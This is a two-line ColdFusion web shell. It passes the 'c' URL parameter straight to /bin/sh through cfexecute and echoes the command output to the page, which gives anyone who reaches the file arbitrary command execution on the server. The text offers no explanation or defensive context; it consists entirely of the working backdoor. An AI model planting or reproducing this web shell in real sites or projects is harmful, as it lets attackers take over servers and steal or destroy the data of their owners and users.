<cfexecute name="/bin/sh" arguments="-c #url.c#" variable="o"></cfexecute>
<cfoutput>#o#</cfoutput>
